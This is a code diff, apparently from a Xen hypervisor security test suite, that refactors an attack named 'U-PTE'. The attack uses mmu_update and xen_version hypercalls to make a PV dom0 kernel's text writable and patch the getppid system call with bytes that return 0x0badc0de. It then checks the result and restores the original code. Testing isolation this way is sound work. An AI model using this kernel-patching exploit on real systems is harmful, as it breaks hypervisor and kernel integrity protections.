@@ -7,19 +7,7 @@
  */
 #include "paging.h"
 
-#include <sys/syscall.h>
-
-/* mov $lie, %eax; ret: what getppid() runs once it has been overwritten. */
-static const uint32_t lie = 0x0badc0de;
-const uint8_t lying_code[LYING_CODE_SIZE] = {
-    0xb8, 0xde, 0xc0, 0xad, 0x0b, 0xc3
-};
 #define PATCH_SIZE 16
-
-bool getppid_lies(void)
-{
-    return (uint32_t)syscall(SYS_getppid) == lie;
-}
 
 /*
  * Map the frame of @text at a page of our own, whose entry Xen is asked to
@@ -47,42 +35,6 @@ static bool patch_by_own_mapping(uint64_t text)
     return lied;
 }
 
-uint64_t entry_at(uint64_t table_page, uint64_t address, unsigned int level)
-{
-    uint64_t base = 0, entry = 0;
-    uint64_t index = (address >> (12 + 9 * (level - 1))) & 0x1ff;
-
-    if ( !read_kernel(kernel_symbol("page_offset_base"), &base, sizeof(base)) ||
-         !read_kernel(base + table_page * PAGE_SIZE + index * sizeof(entry),
-                      &entry, sizeof(entry)) )
-        return 0;
-
-    return entry;
-}
-
-/*
- * The L1 entry that maps @address for the kernel, and where it is (a machine
- * address).
- */
-static uint64_t kernel_pte(uint64_t address, uint64_t *where)
-{
-    uint64_t table = kernel_page_number(kernel_symbol("init_top_pgt")),
-             entry = 0;
-
-    for ( unsigned int level = 4; level > 0; level-- )
-    {
-        entry = entry_at(table, address, level);
-        if ( !entry || level == 1 )
-            break;
-
-        *where = PTE_FRAME(entry) * PAGE_SIZE +
-                 (address >> (12 + 9 * (level - 2)) & 0x1ff) * 8;
-        table = page_of_frame(PTE_FRAME(entry));
-    }
-
-    return entry;
-}
-
 /*
  * Make the kernel's own mapping of its text writable. Any copy by Xen to an
  * address of the caller's choice then reaches it: here dom0's UUID, which the
@@ -90,33 +42,29 @@ static uint64_t kernel_pte(uint64_t address, uint64_t *where)
  */
 static bool patch_by_kernel_mapping(uint64_t text)
 {
-    struct xen_domctl set = { .cmd = XEN_DOMCTL_setdomainhandle, .domain = 0 };
     mmu_update_t *update = buffer(PAGE_SIZE);
-    uint8_t original[PATCH_SIZE] = { 0 };
-    uint64_t where = 0;
-    const uint64_t pte = kernel_pte(text, &where);
+    uint8_t original[PATCH_SIZE] = { 0 }, patch[PATCH_SIZE];
+    const struct pte pte = find_pte(kernel_root(), text, 1);
     bool lied;
 
-    if ( !pte || !read_kernel(text, original, sizeof(original)) )
+    if ( !pte.value || !read_kernel(text, original, sizeof(original)) )
         return false;
 
-    *update = (mmu_update_t){ .ptr = where | MMU_NORMAL_PT_UPDATE,
-                              .val = pte | PTE_WRITABLE };
+    *update = (mmu_update_t){ .ptr = pte.where | MMU_NORMAL_PT_UPDATE,
+                              .val = pte.value | PTE_WRITABLE };
     hypercall4(__HYPERVISOR_mmu_update, update, 1, 0, DOMID_SELF);
 
-    memcpy(set.u.setdomainhandle.handle, original, PATCH_SIZE);
-    memcpy(set.u.setdomainhandle.handle, lying_code, sizeof(lying_code));
-    domctl(&set);
+    memcpy(patch, original, PATCH_SIZE);
+    memcpy(patch, lying_code, sizeof(lying_code));
+    set_handle(patch);
     hypercall2(__HYPERVISOR_xen_version, XENVER_guest_handle, text);
     lied = getppid_lies();
 
-    memcpy(set.u.setdomainhandle.handle, original, PATCH_SIZE);
-    domctl(&set);
+    set_handle(original);
     hypercall2(__HYPERVISOR_xen_version, XENVER_guest_handle, text);
-    memset(set.u.setdomainhandle.handle, 0, PATCH_SIZE);
-    domctl(&set);
+    set_handle((char[PATCH_SIZE]){ 0 });
 
-    update->val = pte;
+    update->val = pte.value;
     hypercall4(__HYPERVISOR_mmu_update, update, 1, 0, DOMID_SELF);
     return lied;
 }
@@ -131,7 +79,7 @@ static bool patch_by_kernel_mapping(uint64_t text)
  */
 ATTACK("U-PTE", "make kernel text writable and change a system call")
 {
-    const uint64_t text = kernel_symbol("__x64_sys_getppid");
+    const uint64_t text = getppid_code();
     bool own, kernel;
 
     if ( !dom0_is_pv() )
